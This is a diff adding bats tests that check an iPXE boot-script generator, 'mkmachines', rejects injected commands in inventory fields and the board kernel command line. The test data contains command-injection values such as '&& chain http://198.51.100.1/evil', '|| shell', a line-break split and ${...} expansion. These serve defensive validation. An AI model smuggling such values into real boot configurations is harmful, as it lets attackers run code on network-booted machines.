@@ -124,6 +124,56 @@ teardown_file() {
 	grep -qx 'ipv4=192.0.2.2/28,192.0.2.1' "$out/$BOARD/machines/good1.example.org/network.conf"
 }
 
+@test "iPXE commands in a row are refused with line and column, nothing written for that machine, exit 1" {
+	out=$BATS_TEST_TMPDIR/inj
+	printf '%s\n' 'hostname,ipv4,ipv4_dns,extra' \
+		'ok1.example.org,192.0.2.2/28,192.0.2.53;192.0.2.54,fathom.mtu=9000' \
+		'inj1.example.org,192.0.2.3/28,,fathom.mtu=9000 && chain http://198.51.100.1/evil' \
+		'inj2.example.org,192.0.2.4/28,,quiet || shell' \
+		'inj3.example.org,192.0.2.5/28,,"quiet' 'shell"' \
+		'inj4.example.org,192.0.2.6/28,,x=${net0/mac}' \
+		'inj5.example.org,192.0.2.7/28,192.0.2.53 && shell,' \
+		'ok2.example.org,192.0.2.8/28,,' > "$BATS_TEST_TMPDIR/inj.csv"
+	run "$OUTDIR/build/host/mkmachines" -o "$out" -b "$BASE" -c "console=ttyS0" "$BATS_TEST_TMPDIR/inj.csv"
+	assert_failure 1
+	f=$BATS_TEST_TMPDIR/inj.csv
+	assert_line "mkmachines: $f:3: extra: \"fathom.mtu=9000 && chain http://198.51.100.1/evil\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f:4: extra: \"quiet || shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f:5: extra: \"quiet?shell\": must not contain control characters: a line break would end the iPXE command"
+	assert_line "mkmachines: $f:7: extra: \"x=\${net0/mac}\": must not contain '\$': iPXE expands \${...}"
+	assert_line "mkmachines: $f:8: ipv4_dns: \"192.0.2.53 && shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f: 5 bad rows; wrote the other 2 machines"
+	run ls "$out"
+	assert_output "$(printf 'ok1.example.org\nok2.example.org')"
+	run grep -c '&&\|shell\|net0/mac' "$out/ok1.example.org/boot.ipxe"
+	assert_output 0
+	grep -q '^kernel .* fathom.ipv4=192.0.2.2/28,,192.0.2.53,192.0.2.54 fathom.mtu=9000 console=ttyS0 || goto failed$' \
+		"$out/ok1.example.org/boot.ipxe"
+}
+
+@test "a board CMDLINE with a line break (two CMDLINE= lines) is refused naming -c, nothing written or signed, exit 2" {
+	board=$BATS_TEST_TMPDIR/board
+	mkdir -p "$board"
+	printf '%s\n' 'CMDLINE=console=ttyS0 quiet' 'CMDLINE=shell' > "$board/board.conf"
+	key=$(dirname "$("$TOP/scripts/keys")")/fathom.key
+	out=$BATS_TEST_TMPDIR/cmd
+	run env MKMACHINES="$OUTDIR/build/host/mkmachines" SIGNING_KEY="$key" \
+		"$TOP/scripts/machines" "$board" "$out/build" "$out" "$INV" "$BASE"
+	assert_failure 2
+	assert_line "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"console=ttyS0 quiet?shell\": must not contain control characters: a line break would end the iPXE command"
+	[ ! -e "$out/machines" ]
+	for c in 'quiet && shell' 'quiet #' 'a=${x}' 'quiet \'; do
+		run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b "$BASE" -c "$c" "$INV"
+		assert_failure 2
+		assert_output --partial "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"$c\": must not contain"
+		[ ! -e "$out/direct" ]
+	done
+	run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b 'http://192.0.2.1/${x}' "$INV"
+	assert_failure 2
+	assert_output --partial "mkmachines: -b BASE_URL: \"http://192.0.2.1/\${x}\": must not contain '\$'"
+	[ ! -e "$out/direct" ]
+}
+
 @test "a JSON inventory gives the same files as the same CSV" {
 	out=$BATS_TEST_TMPDIR/json
 	cat > "$BATS_TEST_TMPDIR/fleet.json" <<-'JSON'
